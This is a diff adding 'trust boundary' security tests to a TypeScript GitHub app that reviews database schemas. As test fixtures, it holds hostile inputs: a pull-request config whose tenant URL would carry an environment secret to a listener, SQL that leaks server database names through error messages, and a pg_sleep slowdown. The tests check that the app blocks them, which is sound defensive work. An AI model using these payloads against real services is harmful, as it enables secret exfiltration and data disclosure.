@@ -5,10 +5,11 @@ import nock from 'nock';
 import { Probot, ProbotOctokit } from 'probot';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { openLedger } from '../../src/fleet/ledger/index.js';
-import { schemafleetApp, type SchemafleetAppOptions } from '../../src/github/app.js';
+import { appOptionsFromEnv, schemafleetApp, type SchemafleetAppOptions } from '../../src/github/app.js';
 import { reviewMarker } from '../../src/github/render-review-comment.js';
 import { openScratchServer, type ScratchServer } from '../../src/schema/scratch/scratch-server.js';
 import { adminUrl, createTestDatabase } from '../support/pg.js';
+import { connectionCounter } from './connection-counter.js';
 import { fakeGitHub, type FakeGitHub } from './fake-github.js';
 
 const { privateKey } = generateKeyPairSync('rsa', {
@@ -225,15 +226,135 @@ describe('schemafleet Probot app', () => {
       const db = await createTestDatabase('sf_gh_ledger');
       const ledger = await openLedger(db.url);
       try {
-        const { rollout } = await ledger.findOrCreateRollout({ schemaHash: 'sha256:test', commit: BASE });
+        const { rollout } = await ledger.findOrCreateRollout({ schemaHash: 'sha256:test', commit: BASE, config: { repository: 'acme/shop' } });
         const payload = fixture('check_run.requested_action');
         payload.check_run.external_id = rollout.id;
+        github.permissions.set('octocat', 'write');
         const probot = await newProbot({ botLogin: 'schemafleet[bot]', ledgerUrl: db.url });
         await probot.receive({ id: '1', name: 'check_run', payload } as never);
 
         const after = await ledger.getRollout(rollout.id);
         expect(after?.requested).toBe('pause');
         expect(after?.requestedBy).toContain('octocat');
+      } finally {
+        await ledger.close();
+      }
+    });
+  });
+
+  describe('trust boundary', () => {
+    it('reviews under the base config: a head config cannot choose tenants, expand variables or turn rules off', async () => {
+      const attacker = await connectionCounter();
+      try {
+        // The pull request adds .github/schemafleet.yml, which is looked up before schemafleet.yml.
+        const rootConfig = CONFIG.replace('schema: ../db/schema.sql', 'schema: db/schema.sql');
+        const headConfig = [
+          'schema: ../db/schema.sql',
+          'tenants:',
+          '  list:',
+          '    - id: evil',
+          `      url: postgres://x:\${PLANTED}@127.0.0.1:${attacker.port}/\${PLANTED}`,
+          'lint:',
+          '  rules:',
+          '    drop-column: off',
+          '',
+        ].join('\n');
+        github.setFiles(BASE, { 'schemafleet.yml': rootConfig, 'db/schema.sql': BASE_SQL });
+        github.setFiles(HEAD, { 'schemafleet.yml': rootConfig, '.github/schemafleet.yml': headConfig, 'db/schema.sql': HEAD_SQL });
+        const probot = await newProbot({ botLogin: 'schemafleet[bot]', tenantAccess: true, env: { PLANTED: 'planted-secret-value' } });
+        await probot.receive({ id: '1', name: 'pull_request', payload: fixture('pull_request.opened') } as never);
+
+        expect(attacker.connections()).toBe(0);
+        const body = github.comments[0]!.body;
+        expect(body).toContain('This pull request changes `.github/schemafleet.yml`. The change takes effect after merge: this review uses `schemafleet.yml` as it is on the base branch.');
+        // drop-column still fires: the head's lint section is not in force.
+        expect(body).toMatch(/1 error/);
+        expect(body).toContain('drop-column');
+        expect(JSON.stringify([github.comments, github.checkRuns])).not.toContain('planted-secret-value');
+      } finally {
+        await attacker.close();
+      }
+    });
+
+    it("loads a fork's SQL on a cluster of its own, not the shared scratch server, unless told it may", async () => {
+      const marker = await createTestDatabase('sf_gh_marker');
+      const leak = `${BASE_SQL}CREATE FUNCTION leak() RETURNS int LANGUAGE sql AS $$ SELECT (SELECT string_agg(datname, ',') FROM pg_database)::int $$;
+CREATE TABLE parted (a int) PARTITION BY LIST (a);
+CREATE TABLE parted_1 PARTITION OF parted FOR VALUES IN (leak());
+CREATE MATERIALIZED VIEW leak_view AS SELECT (SELECT string_agg(datname, ',') FROM pg_database)::int AS n;
+`;
+      github.setFiles(HEAD, { '.github/schemafleet.yml': CONFIG, 'db/schema.sql': leak });
+      const payload = fixture('pull_request.opened');
+      payload.pull_request.head.repo = { ...payload.pull_request.head.repo, id: 777, full_name: 'mallory/shop', fork: true, owner: { login: 'mallory', id: 777 } };
+
+      const probot = await newProbot({ botLogin: 'schemafleet[bot]' });
+      await probot.receive({ id: '1', name: 'pull_request', payload } as never);
+      const own = github.comments[0]!.body;
+      // The partition bound ran (on the review's own cluster), and says only what that cluster holds.
+      expect(own).toMatch(/db\/schema\.sql:\d+:\d+: ERROR: invalid input syntax for type integer: .*\(22P02\)/);
+      expect(own).not.toContain(marker.name);
+
+      // The control: allowed onto the shared server, the same SQL reads its database names.
+      github.comments.splice(0);
+      const shared = await newProbot({ botLogin: 'schemafleet[bot]', devUrlForForks: true });
+      await shared.receive({ id: '2', name: 'pull_request', payload } as never);
+      expect(github.comments[0]!.body).toContain(marker.name);
+    });
+
+    it('shows drift as counts only on a public repository, and tenant ids when the config allows it', async () => {
+      const tenant = await createTestDatabase('sf_gh_tenant');
+      await tenant.exec(BASE_SQL);
+      const config = CONFIG.replace('postgres://sf:secret@127.0.0.1:1/unreachable', tenant.url);
+      github.setFiles(BASE, { '.github/schemafleet.yml': config, 'db/schema.sql': BASE_SQL });
+      github.setFiles(HEAD, { '.github/schemafleet.yml': config, 'db/schema.sql': HEAD_SQL });
+      const payload = fixture('pull_request.opened');
+      payload.repository.private = false;
+      const probot = await newProbot({ botLogin: 'schemafleet[bot]', tenantAccess: true });
+      await probot.receive({ id: '1', name: 'pull_request', payload } as never);
+      const hidden = github.comments[0]!.body;
+      expect(hidden).toContain('Tenant drift (sample of 1 tenant)');
+      expect(hidden).not.toContain('acme-eu');
+
+      github.setFiles(BASE, { '.github/schemafleet.yml': `${config}review:\n  showTenantIds: true\n`, 'db/schema.sql': BASE_SQL });
+      github.setFiles(HEAD, { '.github/schemafleet.yml': `${config}review:\n  showTenantIds: true\n`, 'db/schema.sql': HEAD_SQL });
+      await probot.receive({ id: '2', name: 'pull_request', payload } as never);
+      expect(github.comments[0]!.body).toContain('<code>acme-eu</code>');
+    });
+
+    it('fails a review past its time budget, naming the statement that was running', async () => {
+      const nap = 'CREATE FUNCTION nap(n int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN PERFORM pg_sleep(0.7); RETURN n; END $$;';
+      const slow = [HEAD_SQL.trim(), nap, 'CREATE TABLE t (a int) PARTITION BY LIST (a);', ...[1, 2, 3, 4].map((n) => `CREATE TABLE t${n} PARTITION OF t FOR VALUES IN (nap(${n}));`), ''].join('\n');
+      github.setFiles(HEAD, { '.github/schemafleet.yml': CONFIG, 'db/schema.sql': slow });
+      const probot = await newProbot({ botLogin: 'schemafleet[bot]', reviewTimeBudgetMs: 2_000 });
+      await probot.receive({ id: '1', name: 'pull_request', payload: fixture('pull_request.opened') } as never);
+      expect(github.comments[0]!.body).toMatch(/db\/schema\.sql:\d+:1: the review's time budget \(2 s for every statement of the base and head schemas\) ran out while this statement ran: CREATE TABLE t\d PARTITION OF t/);
+      expect((github.checkRuns[0]!.create as { conclusion: string }).conclusion).toBe('failure');
+    });
+
+    it('reads the trust settings from the server environment', () => {
+      expect(appOptionsFromEnv({ SCHEMAFLEET_DEV_URL_FOR_FORKS: 'true', SCHEMAFLEET_REVIEW_TIME_BUDGET: '90' })).toMatchObject({ devUrlForForks: true, reviewTimeBudgetMs: 90_000 });
+      expect(appOptionsFromEnv({})).toMatchObject({ devUrlForForks: false });
+      expect(appOptionsFromEnv({}).reviewTimeBudgetMs).toBeUndefined();
+    });
+
+    it('writes a button click to the ledger only for a sender who may write, on a rollout of this repository', async () => {
+      const db = await createTestDatabase('sf_gh_ledger');
+      const ledger = await openLedger(db.url);
+      try {
+        const { rollout } = await ledger.findOrCreateRollout({ schemaHash: 'sha256:other', commit: BASE, config: { repository: 'acme/other' } });
+        const payload = fixture('check_run.requested_action');
+        payload.check_run.external_id = rollout.id;
+        const probot = await newProbot({ botLogin: 'schemafleet[bot]', ledgerUrl: db.url });
+
+        github.permissions.set('octocat', 'read');
+        await probot.receive({ id: '1', name: 'check_run', payload } as never);
+        expect((await ledger.getRollout(rollout.id))?.requested).toBeNull();
+
+        // A writer of acme/shop, but the rollout was started from acme/other.
+        github.permissions.set('octocat', 'write');
+        await probot.receive({ id: '2', name: 'check_run', payload } as never);
+        expect((await ledger.getRollout(rollout.id))?.requested).toBeNull();
+        expect(github.requests).toContain('GET /repos/acme/shop/collaborators/octocat/permission');
       } finally {
         await ledger.close();
       }
